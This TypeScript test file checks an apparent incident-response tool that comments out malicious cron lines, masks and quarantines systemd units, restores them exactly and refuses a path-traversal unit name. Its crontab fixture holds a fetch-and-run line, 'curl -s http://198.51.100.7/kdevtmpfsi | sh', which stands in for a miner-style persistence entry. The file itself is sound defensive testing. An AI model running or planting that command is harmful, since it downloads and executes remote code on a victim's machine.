import assert from "node:assert/strict";
import * as fs from "node:fs";
import * as path from "node:path";
import { test } from "node:test";
import { respond, restore } from "../../src/respond/run.ts";
import { listEntries } from "../../src/respond/store.ts";
import { fileState } from "../helpers/files.ts";
import { tempDir } from "../helpers/tmp.ts";

const NOW = () => new Date("2026-11-25T12:00:00Z");
const CRONTAB = Buffer.concat([
  Buffer.from("# m h dom mon dow command\r\n"),
  Buffer.from("* * * * * curl -s http://198.51.100.7/kdevtmpfsi | sh\n"),
  Buffer.from([0xff, 0xfe]),
  Buffer.from(" 0 3 * * * /usr/local/bin/backup\n"),
]);

function cronRoot(t: { after: (fn: () => void) => void }) {
  const root = tempDir(t);
  const dir = path.join(root, "var/spool/cron/crontabs");
  fs.mkdirSync(dir, { recursive: true });
  const file = path.join(dir, "daemon");
  fs.writeFileSync(file, CRONTAB);
  fs.chownSync(file, 1, 105);
  fs.chmodSync(file, 0o600);
  fs.utimesSync(file, new Date("2026-11-20T03:14:10.5Z"), new Date("2026-11-20T03:14:10.5Z"));
  return { root, file, q: path.join(root, "var/lib/mamori/quarantine"), before: fileState(file) };
}

test("a cron line is commented out with a marker, every other byte unchanged, and restore is byte-identical", (t) => {
  const { root, file, q, before } = cronRoot(t);
  const [r] = respond([{ kind: "disable-cron", path: "/var/spool/cron/crontabs/daemon", line: 2 }], {
    root,
    quarantineDir: q,
    apply: true,
    now: NOW,
  });
  assert.equal(r?.status, "done", JSON.stringify(r));
  const after = fs.readFileSync(file);
  const marker = `# mamori-disabled ${r?.entryId}: `;
  const expected = Buffer.concat([
    Buffer.from("# m h dom mon dow command\r\n"),
    Buffer.from(marker),
    CRONTAB.subarray(Buffer.from("# m h dom mon dow command\r\n").length),
  ]);
  assert.deepEqual(after, expected);
  assert.deepEqual([fileState(file).mode, fileState(file).uid, fileState(file).gid], [0o600, 1, 105]);

  assert.equal(restore(r?.entryId as string, { quarantineDir: q, now: NOW }).how, "identical");
  assert.deepEqual(fileState(file), before);
});

test("if the crontab changed after we disabled a line, restore only removes our marker", (t) => {
  const { root, file, q } = cronRoot(t);
  const [r] = respond([{ kind: "disable-cron", path: "/var/spool/cron/crontabs/daemon", line: 2 }], {
    root,
    quarantineDir: q,
    apply: true,
    now: NOW,
  });
  fs.appendFileSync(file, "@reboot /opt/other\n");
  assert.equal(restore(r?.entryId as string, { quarantineDir: q, now: NOW }).how, "marker-removed");
  assert.deepEqual(fs.readFileSync(file), Buffer.concat([CRONTAB, Buffer.from("@reboot /opt/other\n")]));
});

test("a missing line is refused in the dry run already", (t) => {
  const { root, q, file, before } = cronRoot(t);
  const [r] = respond([{ kind: "disable-cron", path: "/var/spool/cron/crontabs/daemon", line: 40 }], {
    root,
    quarantineDir: q,
    apply: false,
    now: NOW,
  });
  assert.deepEqual([r?.status, r?.reason], ["refused", "no-line"]);
  assert.deepEqual(fileState(file), before);
});

test("a unit file in /etc/systemd/system is quarantined and masked; restore brings it back identical", (t) => {
  const root = tempDir(t);
  const q = path.join(root, "q");
  const dir = path.join(root, "etc/systemd/system");
  fs.mkdirSync(path.join(dir, "multi-user.target.wants"), { recursive: true });
  const unit = path.join(dir, "kdevtmpfsi.service");
  fs.writeFileSync(unit, "[Service]\nExecStart=/tmp/kdevtmpfsi\n[Install]\nWantedBy=multi-user.target\n");
  fs.chmodSync(unit, 0o644);
  fs.symlinkSync(
    "/etc/systemd/system/kdevtmpfsi.service",
    path.join(dir, "multi-user.target.wants/kdevtmpfsi.service"),
  );
  const before = fileState(unit);

  const [r] = respond([{ kind: "disable-unit", name: "kdevtmpfsi" }], {
    root,
    quarantineDir: q,
    apply: true,
    now: NOW,
  });
  assert.equal(r?.status, "done", JSON.stringify(r));
  assert.equal(fs.readlinkSync(unit), "/dev/null");
  assert.equal(listEntries(q)[0]?.status, "quarantined");
  // The wants link is left alone: a masked unit cannot start either way.
  assert.ok(fs.lstatSync(path.join(dir, "multi-user.target.wants/kdevtmpfsi.service")).isSymbolicLink());

  const [again] = respond([{ kind: "disable-unit", name: "kdevtmpfsi.service" }], {
    root,
    quarantineDir: q,
    apply: true,
    now: NOW,
  });
  assert.equal(again?.status, "skipped");

  restore(r?.entryId as string, { quarantineDir: q, now: NOW });
  assert.deepEqual(fileState(unit), before);
});

test("a unit shipped elsewhere is masked by a link, and restore removes only that link", (t) => {
  const root = tempDir(t);
  const q = path.join(root, "q");
  const [r] = respond([{ kind: "disable-unit", name: "evil.timer" }], {
    root,
    quarantineDir: q,
    apply: true,
    now: NOW,
  });
  const mask = path.join(root, "etc/systemd/system/evil.timer");
  assert.equal(fs.readlinkSync(mask), "/dev/null");
  restore(r?.entryId as string, { quarantineDir: q, now: NOW });
  assert.equal(fs.existsSync(mask) || fs.lstatSync(mask, { throwIfNoEntry: false }) !== undefined, false);
});

test("unit names cannot walk out of /etc/systemd/system", (t) => {
  const root = tempDir(t);
  const [r] = respond([{ kind: "disable-unit", name: "../../../etc/passwd" }], {
    root,
    quarantineDir: path.join(root, "q"),
    apply: true,
    now: NOW,
  });
  assert.deepEqual([r?.status, r?.reason], ["refused", "bad-name"]);
});
